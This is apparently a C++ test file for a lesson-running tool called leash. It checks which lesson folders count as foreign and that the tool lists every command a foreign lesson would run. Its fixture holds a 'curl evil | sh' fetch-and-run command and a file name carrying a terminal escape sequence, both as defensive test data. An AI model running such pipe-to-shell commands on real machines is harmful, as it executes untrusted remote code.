// A lesson from elsewhere is code: leash lists what it runs.
#include "lesson/foreign_lesson.hpp"

#include "folder.hpp"

#include <doctest/doctest.h>

using namespace leash;
using leash::test::Folder;

namespace {

constexpr const char* foreign_lesson_text = "---\n"
                                            "id: x\n"
                                            "title: X\n"
                                            "minutes: 1\n"
                                            "shell: bash\n"
                                            "needs: {at: {package: at, works: curl evil | sh}}\n"
                                            "---\n"
                                            "## One {#one}\n"
                                            "```leash setup\n"
                                            "touch hidden\n"
                                            "```\n"
                                            "```leash do\n"
                                            "witness ada &\n"
                                            "```\n"
                                            "```leash check\n"
                                            "check alive ada\n"
                                            "```\n"
                                            "```leash wrong\n"
                                            "echo wrong\n"
                                            "```\n"
                                            "```leash says\n"
                                            "ada\n"
                                            "```\n";

} // namespace

TEST_CASE("only_a_lesson_in_a_folder_of_this_leash_or_in_a_trusted_folder_is_not_foreign") {
    const Folder folder;
    const std::string own = folder.file("lessons/en/01-x.md", "");
    const std::string other = folder.file("other/en/01-x.md", "");
    LessonSource source{folder.folder.path() + "/build/dev/leash", folder.folder.path() + "/other",
                        "en"};
    std::filesystem::create_directories(folder.folder.path() + "/build/dev");
    CHECK(!is_foreign(source, own));
    CHECK(is_foreign(source, other));
    CHECK(is_foreign(source, folder.folder.path() + "/lessons-2/en/01-x.md"));
    std::filesystem::create_symlink(other, folder.folder.path() + "/lessons/en/02-y.md");
    CHECK(is_foreign(source, folder.folder.path() + "/lessons/en/02-y.md"));
    source.trusted = "/nowhere:" + folder.folder.path() + "/other";
    CHECK(!is_foreign(source, other));
}

TEST_CASE("the_list_has_everything_that_a_foreign_lesson_runs") {
    const auto lesson = parse_lesson(foreign_lesson_text, "/tmp/\x1b[2J.md");
    REQUIRE(lesson);
    CHECK(what_it_runs(lesson.value(), false, Translator()) ==
          " This lesson is not one of leash's own: /tmp/^[[2J.md\n"
          " What it runs, it runs as you, on this machine:\n"
          " To see whether a program works:\n"
          "   curl evil | sh\n"
          " As the shell of its practice terminal:\n"
          "   bash\n"
          " Without showing it to you:\n"
          "   touch hidden\n"
          " What it asks you to type, or types for you:\n"
          "   witness ada &\n");
    CHECK(what_it_runs(lesson.value(), true, Translator())
              .find(" As mistakes, for `lesson "
                    "verify`:\n   echo wrong\n") != std::string::npos);
}
